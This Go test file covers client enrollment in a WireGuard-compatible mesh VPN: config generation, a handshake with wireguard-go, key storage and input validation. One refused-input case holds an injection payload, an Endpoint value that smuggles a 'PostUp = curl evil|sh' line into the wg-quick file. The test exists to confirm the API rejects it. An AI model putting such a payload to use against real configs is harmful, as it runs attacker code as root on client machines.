package clients

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.zx2c4.com/wireguard/conn"
	"golang.zx2c4.com/wireguard/device"
	"golang.zx2c4.com/wireguard/tun/tuntest"

	"github.com/weftnet/weft/agent/api"
	"github.com/weftnet/weft/agent/config"
	"github.com/weftnet/weft/crypto"
	"github.com/weftnet/weft/crypto/cryptotest"
	"github.com/weftnet/weft/peers"
	"github.com/weftnet/weft/tunnel"
)

// wgQuickToUAPI converts a wg-quick config (one [Interface], [Peer]s) into wireguard-go's
// UAPI set text, as wg-quick does with `wg setconf`; it returns the interface address too.
func wgQuickToUAPI(t *testing.T, text string) (string, netip.Prefix, netip.Addr) {
	t.Helper()
	b64hex := func(v string) string {
		k, err := base64.StdEncoding.DecodeString(v)
		if err != nil || len(k) != 32 {
			t.Fatalf("key %q: %v", v, err)
		}
		return hex.EncodeToString(k)
	}
	var (
		uapi    strings.Builder
		addr    netip.Prefix
		dns     netip.Addr
		section string
	)
	sc := bufio.NewScanner(strings.NewReader(text))
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		if strings.HasPrefix(line, "[") {
			section = line
			if section == "[Peer]" {
				uapi.WriteString("replace_allowed_ips=true\n")
			}
			continue
		}
		k, v, ok := strings.Cut(line, "=")
		if !ok {
			t.Fatalf("wg-quick line %q: no =", line)
		}
		k, v = strings.TrimSpace(k), strings.TrimSpace(v)
		switch section + k {
		case "[Interface]Address":
			addr = netip.MustParsePrefix(v)
		case "[Interface]PrivateKey":
			fmt.Fprintf(&uapi, "private_key=%s\n", b64hex(v))
		case "[Interface]MTU":
		case "[Interface]DNS":
			dns = netip.MustParseAddr(strings.TrimSpace(strings.Split(v, ",")[0]))
		case "[Peer]PublicKey":
			// public_key starts the peer section in UAPI: it must come first.
			s := uapi.String()
			s = strings.TrimSuffix(s, "replace_allowed_ips=true\n")
			uapi.Reset()
			uapi.WriteString(s)
			fmt.Fprintf(&uapi, "public_key=%s\nreplace_allowed_ips=true\n", b64hex(v))
		case "[Peer]Endpoint":
			fmt.Fprintf(&uapi, "endpoint=%s\n", v)
		case "[Peer]AllowedIPs":
			for _, p := range strings.Split(v, ",") {
				fmt.Fprintf(&uapi, "allowed_ip=%s\n", strings.TrimSpace(p))
			}
		case "[Peer]PersistentKeepalive":
			fmt.Fprintf(&uapi, "persistent_keepalive_interval=%s\n", v)
		default:
			t.Fatalf("wg-quick key %s%s not understood", section, k)
		}
	}
	return uapi.String(), addr, dns
}

func newKey(t *testing.T) crypto.PrivateKey { return cryptotest.NewKey(t) }

type testWriter struct{ t *testing.T }

func (w testWriter) Write(p []byte) (int, error) { w.t.Log(string(p)); return len(p), nil }

// testHost is what the clients see of an agent: its key, peer table, overlay address and
// subnet, and data port.
type testHost struct {
	cfg     config.Config
	log     *slog.Logger
	priv    crypto.PrivateKey
	table   *peers.Table
	address netip.Addr
	subnet  netip.Prefix
	port    uint16
	cl      *Clients
}

// deps wires the clients to h as the agent does (agent/wire_edges.go).
func (h *testHost) deps() Deps {
	c := h.cfg
	return Deps{
		Mode: c.Mode, Encryption: c.Encryption, Netstack: c.Netstack, Containers: c.CNI.Enabled,
		StateDir: c.StateDir, Range: c.Clients.Range, Interface: c.Interface, ClusterCIDR: c.ClusterCIDR.Prefix, MTU: c.MTU,
		DNSDomain: c.DNS.Domain, DNSDisabled: c.DNS.Disabled, DNSListen: c.DNS.Listen,
		GossipAdvertise: c.Gossip.Advertise, GossipBind: c.Gossip.Bind, HostKey: h.priv.Public(),
		Subnet:     func() netip.Prefix { return h.subnet },
		Address:    func() netip.Addr { return h.address },
		Port:       func() uint16 { return h.port },
		DatapathUp: func() bool { return true },
		AddPeer: func(key crypto.PublicKey, addr netip.Addr, keepalive time.Duration) error {
			_, err := h.table.Upsert(peers.PeerConfig{PublicKey: key, WireGuardFraming: true, PersistentKeepalive: keepalive,
				AllowedIPs: []netip.Prefix{netip.PrefixFrom(addr, 32)}})
			if err != nil && !errors.Is(err, peers.ErrPrefixMoved) {
				return err
			}
			return nil
		},
		RemovePeer: func(key crypto.PublicKey) { h.table.Remove(key) },
		IsPeer:     func(key crypto.PublicKey) bool { return h.table.ByKey(key) != nil },
		Log:        h.log,
	}
}

// clientsAgent is an L3 host with a peer table and a weft tunnel on loopback over a
// channel TUN (no device, no root), its clients' routes on an httptest server.
func clientsAgent(t *testing.T) (*testHost, *tuntest.ChannelTUN, *httptest.Server) {
	t.Helper()
	cfg := config.DefaultConfig()
	cfg.Name = "host3"
	cfg.StateDir = t.TempDir()
	cfg.ClusterCIDR = config.Prefix{Prefix: netip.MustParsePrefix("10.42.0.0/16")}
	cfg.DNS.Listen = []string{"overlay:53"}
	priv := newKey(t)
	id := crypto.NewIdentity(priv)
	t.Cleanup(id.Close)
	a := &testHost{cfg: cfg, log: slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelDebug})),
		priv: priv, table: peers.NewTable(id),
		address: netip.MustParseAddr("10.42.3.1"), subnet: netip.MustParsePrefix("10.42.3.0/24")}
	d := a.deps()
	d.EnableForwarding = func() error { return nil }
	tcfg := tunnel.DefaultLocalConfig()
	tcfg.Identity = id
	ct := tuntest.NewChannelTUN()
	tn, err := tunnel.New(tcfg, ct.TUN(), conn.NewStdNetBind(), a.table)
	if err != nil {
		t.Fatal(err)
	}
	if a.port, err = tn.Up(0); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tn.Close() })
	a.cl = New(d)
	if err := a.cl.Start(); err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	a.cl.Routes(mux)
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return a, ct, srv
}

func postClient(t *testing.T, srv *httptest.Server, req api.ClientAdd) (api.ClientAdded, int, string) {
	t.Helper()
	b, _ := json.Marshal(req)
	resp, err := http.Post(srv.URL+"/v1/clients", "application/json", bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	_, _ = buf.ReadFrom(resp.Body)
	var out api.ClientAdded
	if resp.StatusCode == http.StatusOK {
		if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
			t.Fatal(err)
		}
	}
	return out, resp.StatusCode, buf.String()
}

func icmpEcho(src, dst netip.Addr, size int) []byte {
	p := make([]byte, size)
	p[0] = 0x45
	binary.BigEndian.PutUint16(p[2:], uint16(size))
	p[8], p[9] = 64, 1
	s, d := src.As4(), dst.As4()
	copy(p[12:], s[:])
	copy(p[16:], d[:])
	var sum uint32
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(p[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(p[10:], ^uint16(sum))
	p[20] = 8 // echo request
	for i := 28; i < size; i++ {
		p[i] = byte(i)
	}
	return p
}

func recvPacket(t *testing.T, ch chan []byte, what string) []byte {
	t.Helper()
	select {
	case p := <-ch:
		return p
	case <-time.After(10 * time.Second):
		t.Fatalf("%s: no packet within 10s", what)
		return nil
	}
}

// TestClients_StockWireGuardFromGeneratedConfig: `weft client add` makes a config that a
// real WireGuard implementation (wireguard-go's device, configured from the wg-quick text
// through its UAPI) uses to handshake and carry IP both ways; the store keeps no private
// key; removing the client stops its traffic.
func TestClients_StockWireGuardFromGeneratedConfig(t *testing.T) {
	a, hostTUN, srv := clientsAgent(t)
	added, code, body := postClient(t, srv, api.ClientAdd{Name: "phone", Endpoint: fmt.Sprintf("127.0.0.1:%d", a.port), Keepalive: api.Duration{Duration: 25 * time.Second}})
	if code != http.StatusOK {
		t.Fatalf("add: %d %s", code, body)
	}
	t.Logf("generated config:\n%s", added.Config)
	if added.Client.Address != netip.MustParseAddr("10.42.3.200") {
		t.Errorf("allocated %s, want 10.42.3.200 (the top of the host's /24)", added.Client.Address)
	}
	for _, want := range []string{"Address = 10.42.3.200/32", "DNS = 10.42.3.1", "AllowedIPs = 10.42.0.0/16", "PersistentKeepalive = 25", "PublicKey = " + a.priv.Public().String()} {
		if !strings.Contains(added.Config, want) {
			t.Errorf("config lacks %q", want)
		}
	}
	uapi, ifAddr, dns := wgQuickToUAPI(t, added.Config)
	if dns != a.address || ifAddr.Addr() != added.Client.Address {
		t.Errorf("dns %s address %s", dns, ifAddr)
	}
	// The private key printed is not in the store.
	stored, err := os.ReadFile(filepath.Join(a.cfg.StateDir, "clients.json"))
	if err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(filepath.Join(a.cfg.StateDir, "clients.json")); fi.Mode().Perm() != 0o600 {
		t.Errorf("clients.json mode %v, want 0600", fi.Mode().Perm())
	}
	privLine := strings.SplitN(strings.SplitN(added.Config, "PrivateKey = ", 2)[1], "\n", 2)[0]
	if bytes.Contains(stored, []byte(privLine)) {
		t.Fatal("clients.json holds the client's private key")
	}

	cTUN := tuntest.NewChannelTUN()
	dev := device.NewDevice(cTUN.TUN(), conn.NewStdNetBind(), device.NewLogger(device.LogLevelSilent, ""))
	t.Cleanup(dev.Close)
	if err := dev.IpcSet(uapi); err != nil {
		t.Fatalf("IpcSet(%q): %v", uapi, err)
	}
	if err := dev.Up(); err != nil {
		t.Fatal(err)
	}
	client := added.Client.Address
	for _, size := range []int{84, 333, 1400} {
		ping := icmpEcho(client, a.address, size)
		cTUN.Outbound <- ping
		if got := recvPacket(t, hostTUN.Inbound, "host"); !bytes.Equal(got, ping) {
			t.Fatalf("host got %d bytes, want %d", len(got), len(ping))
		}
		// From another host's subnet (the host forwards for it): reaches the client.
		reply := icmpEcho(netip.MustParseAddr("10.42.7.9"), client, size)
		hostTUN.Outbound <- reply
		if got := recvPacket(t, cTUN.Inbound, "client"); !bytes.Equal(got, reply) {
			t.Fatalf("client got %d bytes, want %d", len(got), len(reply))
		}
	}

	// A second client gets the next address; a duplicate name or a taken address is refused.
	if c2, code, body := postClient(t, srv, api.ClientAdd{Name: "laptop", PublicKey: newKey(t).Public().String(), Endpoint: "192.0.2.1:51820"}); code != http.StatusOK || c2.Client.Address != netip.MustParseAddr("10.42.3.201") || !strings.Contains(c2.Config, api.PrivateKeyPlaceholder) {
		t.Errorf("second client: %d %s %+v", code, body, c2)
	}
	for _, bad := range []api.ClientAdd{
		{Name: "phone", Endpoint: "192.0.2.1:1"},
		{Name: "x1", Address: client, Endpoint: "192.0.2.1:1"},
		{Name: "x2", Address: a.address, Endpoint: "192.0.2.1:1"},
		{Name: "x3", Address: netip.MustParseAddr("10.42.7.9"), Endpoint: "192.0.2.1:1"}, // another host's /24
		{Name: "x4", PublicKey: a.priv.Public().String(), Endpoint: "192.0.2.1:1"},
		{Name: "Bad Name", Endpoint: "192.0.2.1:1"},
		// A hostile API caller smuggling a PostUp line into the client's wg-quick file
		// (wg-quick runs it as root on the client), or other junk, is refused.
		{Name: "x5", Endpoint: "vpn.example.com\nPostUp = curl evil|sh\n#:51820"},
		{Name: "x6", Endpoint: "vpn example.com:51820"},
		{Name: "x7", Endpoint: "vpn.example.com:0"},
		{Name: "x8", Endpoint: "vpn.example.com"},
	} {
		if _, code, body := postClient(t, srv, bad); code == http.StatusOK {
			t.Errorf("%+v accepted: %s", bad, body)
		}
	}
	for _, good := range []string{"vpn.example.com:51820", "[2001:db8::1]:51820"} {
		if err := validEndpoint(good); err != nil {
			t.Errorf("endpoint %q refused: %v", good, err)
		}
	}
	if ip, ok := a.cl.Addr("phone"); !ok || ip != client {
		t.Errorf("DNS hook: phone.client → %v %v", ip, ok)
	}

	// Remove: the peer goes, the client's packets are no longer delivered.
	req, _ := http.NewRequest(http.MethodDelete, srv.URL+"/v1/clients/phone", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("remove: %v %v", err, resp)
	}
	resp.Body.Close()
	k, _ := crypto.ParsePublicKey(added.Client.PublicKey)
	if a.table.ByKey(k) != nil {
		t.Fatal("peer still in the table after remove")
	}
	cTUN.Outbound <- icmpEcho(client, a.address, 84)
	select {
	case p := <-hostTUN.Inbound:
		t.Fatalf("removed client's packet delivered: % x", p[:20])
	case <-time.After(500 * time.Millisecond):
	}
	if cs := a.cl.List(); len(cs) != 1 || cs[0].Name != "laptop" {
		t.Errorf("clients after remove: %+v", cs)
	}
}

// Clients are refused where they cannot work, with a reason.
func TestClients_RefusedInL2(t *testing.T) {
	h := &testHost{cfg: config.DefaultConfig()}
	h.cfg.Mode = "l2"
	if err := New(h.deps()).Supported(); err == nil || !strings.Contains(err.Error(), "l3") {
		t.Errorf("l2: %v", err)
	}
	h.cfg.Mode = "l3"
	h.cfg.CNI.Enabled = true
	if err := New(h.deps()).Supported(); err == nil || !strings.Contains(err.Error(), "cni.enabled") {
		t.Errorf("with containers: %v", err)
	}
}

// A restarted agent brings its stored clients back as WireGuard-framed peers.
func TestClients_ReloadedOnStart(t *testing.T) {
	a, _, srv := clientsAgent(t)
	added, code, body := postClient(t, srv, api.ClientAdd{Name: "tablet", Endpoint: "192.0.2.1:51820"})
	if code != http.StatusOK {
		t.Fatalf("add: %d %s", code, body)
	}
	id := crypto.NewIdentity(a.priv)
	t.Cleanup(id.Close)
	b := &testHost{cfg: a.cfg, log: a.log, priv: a.priv, table: peers.NewTable(id), address: a.address, subnet: a.subnet}
	forwarded := false
	d := b.deps()
	d.EnableForwarding = func() error { forwarded = true; return nil }
	b.cl = New(d)
	if err := b.cl.Start(); err != nil {
		t.Fatal(err)
	}
	k, _ := crypto.ParsePublicKey(added.Client.PublicKey)
	p := b.table.ByKey(k)
	if p == nil || !p.WireGuardFraming() || !forwarded {
		t.Fatalf("after restart: peer %v forwarding %v", p, forwarded)
	}
	if got := p.AllowedIPs(); len(got) != 1 || got[0] != netip.PrefixFrom(added.Client.Address, 32) {
		t.Fatalf("allowed %v", got)
	}
}

// A static peer with framing: wireguard is refused in L2, with the reason.
func TestConfig_WireGuardFramingL3Only(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Name = "h"
	cfg.ClusterCIDR = config.Prefix{Prefix: netip.MustParsePrefix("10.42.0.0/16")}
	cfg.Mode = "l2"
	cfg.Peers = []config.PeerConfig{{PublicKey: newKey(t).Public().String(), AllowedIPs: []config.Prefix{{Prefix: netip.MustParsePrefix("10.42.0.9/32")}}, Framing: "wireguard"}}
	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "L3 only") {
		t.Fatalf("l2 with framing wireguard: %v", err)
	}
	cfg.Mode = "l3"
	if err := cfg.Validate(); err != nil {
		t.Fatalf("l3: %v", err)
	}
}
